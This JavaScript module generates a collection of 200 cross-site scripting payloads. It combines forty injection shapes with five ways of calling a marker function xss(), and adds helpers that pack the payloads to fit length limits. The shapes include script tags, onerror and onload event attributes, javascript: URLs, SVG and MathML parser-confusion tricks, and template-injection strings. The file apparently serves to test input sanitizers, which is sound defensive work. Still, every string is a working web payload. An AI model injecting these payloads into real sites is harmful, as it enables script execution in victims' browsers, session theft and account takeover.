// payloads.mjs -- two hundred texts that run a script where somebody takes text for something else: for HTML, for an
// attribute, an address, a style, a template, a script or JSON within one. Each would call xss().
const CALLS = ['xss()', 'xss`1`', 'top.xss()', "window['xss']()", '[1].map(xss)'];
const SHAPES = [
  (c) => `<script>${c}</script>`,
  (c) => `</script><script>${c}//`,
  (c) => `"><script>${c}</script>`,
  (c) => `'-${c}-'`,
  (c) => `"-${c}-"`,
  (c) => `\`-\${${c}}-\``,
  (c) => `<img src=x onerror=${c}>`,
  (c) => `"><img src=x onerror="${c}">`,
  (c) => `<svg onload=${c}>`,
  (c) => `<svg><script>${c}</script>`,
  (c) => `<svg><animate onbegin=${c} attributeName=x>`,
  (c) => `<body onload=${c}>`,
  (c) => `<iframe src="javascript:${c}">`,
  (c) => `<iframe srcdoc="<script>parent.${c}</script>">`,
  (c) => `<a href="javascript:${c}">x</a>`,
  (c) => `<a href="jAvAsCrIpT&colon;${c}">x</a>`,
  (c) => `<object data="javascript:${c}">`,
  (c) => `<embed src="javascript:${c}">`,
  (c) => `<form action="javascript:${c}"><button>x`,
  (c) => `<input autofocus onfocus=${c}>`,
  (c) => `" autofocus onfocus="${c}" x="`,
  (c) => `' onmouseover='${c}' x='`,
  (c) => `<details open ontoggle=${c}>`,
  (c) => `<video><source onerror=${c}>`,
  (c) => `<audio src=x onerror=${c}>`,
  (c) => `<marquee onstart=${c}>`,
  (c) => `<style onload=${c}></style>`,
  (c) => `<style>@import 'javascript:${c}'</style>`,
  (c) => `<link rel=stylesheet href="javascript:${c}">`,
  (c) => `<base href="javascript:${c}//">`,
  (c) => `<meta http-equiv=refresh content="0;javascript:${c}">`,
  (c) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${c}>`,
  (c) => `<noscript><p title="</noscript><img src=x onerror=${c}>">`,
  (c) => `<!--><img src=x onerror=${c}>-->`,
  (c) => `<![CDATA[><img src=x onerror=${c}>]]>`,
  (c) => `{{constructor.constructor('${c}')()}}`,
  (c) => `\${${c}}`,
  (c) => `javascript:${c}`,
  (c) => `data:text/html,<script>${c}</script>`,
  (c) => `&lt;img src=x onerror=${c}&gt;`,
];

export const PAYLOADS = SHAPES.flatMap((shape) => CALLS.map(shape));

/** The payloads, some to a text, so that no text is longer than `chars_max`. Together they are all of them. */
export function packed(chars_max) {
  const texts = [];
  for (const payload of PAYLOADS) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + 1 + payload.length <= chars_max) texts[texts.length - 1] += ` ${payload}`;
    else texts.push(payload);
  }
  return texts;
}

/** Those that fit whole where little does. */
export const short = (chars_max) => PAYLOADS.filter((payload) => payload.length <= chars_max);
